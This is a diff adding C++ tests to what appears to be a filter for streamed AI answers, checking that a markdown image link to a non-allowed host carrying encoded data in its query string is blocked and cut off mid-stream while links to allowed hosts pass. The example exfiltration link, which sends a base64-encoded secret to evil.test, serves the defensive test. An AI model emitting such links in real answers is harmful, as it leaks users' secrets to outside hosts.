@@ -386,6 +386,39 @@ TEST_F(StreamedAnswerTest, DoesNotGoOnBehindWhatItHasEndedWith) {
   EXPECT_EQ(last().code, "content_refused");
 }
 
+class LinkedAnswerTest : public StreamedAnswerTest {
+ protected:
+  LinkedAnswerTest()
+      : StreamedAnswerTest("{ response: [links], links: { allow: [docs.example.com] } }") {}
+};
+
+TEST_F(LinkedAnswerTest, IsEndedBeforeALinkThatCarriesDataOut) {
+  const std::string text = "Here: ![x](https://evil.test/p.png?d=c2VjcmV0) and more.";
+  const std::size_t at = text.find("https");
+  answers(text);
+  EXPECT_EQ(world.serve(ask(std::string(kHello)))->status, 400);
+  EXPECT_NE(last().written.find(R"({"rule":"links.image","where":"choices[0].message.content:)" +
+                                std::to_string(at)),
+            std::string::npos)
+      << last().written;
+  for (std::size_t step = 1; step < 9; ++step) {
+    const auto caller = streamed(cut(text, step));
+    const std::string seen = content_of(*caller);
+    EXPECT_TRUE(text.starts_with(seen));
+    EXPECT_LE(seen.size(), at);
+    EXPECT_GT(seen.size() + step, at);
+    EXPECT_NE(caller->text.find(R"("finish_reason":"content_filter")"), std::string::npos);
+    EXPECT_EQ(last().code, "content_refused");
+  }
+}
+
+TEST_F(LinkedAnswerTest, PassesWithLinksToHostsThatAreAllowed) {
+  const std::string text = "See ![x](https://docs.example.com/p.png?d=1), and " + kKey;
+  answers(text);
+  EXPECT_EQ(world.serve(ask(std::string(kHello)))->status, 200);
+  EXPECT_EQ(content_of(*streamed(cut(text, 3))), text);
+}
+
 class FlaggedStreamTest : public StreamedAnswerTest {
  protected:
   FlaggedStreamTest() : StreamedAnswerTest("{ response: [secrets], on_match: flag }") {}
